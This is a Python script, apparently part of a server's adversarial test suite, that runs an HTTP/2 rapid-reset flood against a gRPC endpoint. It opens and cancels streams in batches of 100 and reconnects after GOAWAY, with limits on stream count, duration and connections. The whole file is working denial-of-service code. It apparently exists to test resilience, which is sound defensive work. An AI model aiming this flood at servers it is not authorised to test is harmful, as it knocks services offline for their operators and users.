"""HTTP/2 rapid reset: HEADERS + DATA + RST_STREAM in a loop on one raw connection.

Bounded by ``--streams`` and ``--seconds``; when the server closes the
connection (GOAWAY), the attacker reconnects, as a real attacker would, up to
``--connections`` times.
"""

from __future__ import annotations

import time

from hyperframe.frame import Frame

from hello_protocol import hello_pb2 as pb
from tests.adversarial.harness import (
    DataFrame,
    HeadersFrame,
    RawConnection,
    RstStreamFrame,
    grpc_frame,
    parse_args,
    request_headers,
    run_attack,
)

CANCEL = 8  # RST_STREAM error code CANCEL


def attack(address: str, streams: int, seconds: float, connections: int) -> dict[str, object]:
    body = grpc_frame(
        pb.JoinRequest(roomID="flood", user=pb.User(id="attacker")).SerializeToString()
    )
    sent = 0
    opened = 0
    deadline = time.monotonic() + seconds
    while sent < streams and opened < connections and time.monotonic() < deadline:
        conn = RawConnection(address)
        opened += 1
        conn.start()
        headers = request_headers(address)
        stream_id = 1
        while sent < streams and time.monotonic() < deadline and stream_id < 2**31 - 200:
            batch: list[Frame] = []
            for _ in range(100):
                block = conn.headers_block(headers)
                batch += [
                    HeadersFrame(stream_id, data=block, flags=["END_HEADERS"]),
                    DataFrame(stream_id, data=body),
                    RstStreamFrame(stream_id, error_code=CANCEL),
                ]
                stream_id += 2
            if not conn.send(*batch):
                break
            sent += 100
        conn.close()
    return {"streams_sent": sent, "connections": opened, "seconds": seconds}


def main() -> None:
    args = parse_args(
        __doc__ or "",
        [
            ("streams", 400_000, "streams to open and reset at most"),
            ("seconds", 10.0, "attack duration at most"),
            ("connections", 50, "connections to (re)open at most"),
        ],
    )
    run_attack(
        "rapid reset",
        args.server_arg,
        attack,
        args.streams,
        args.seconds,
        args.connections,
    )


if __name__ == "__main__":
    main()
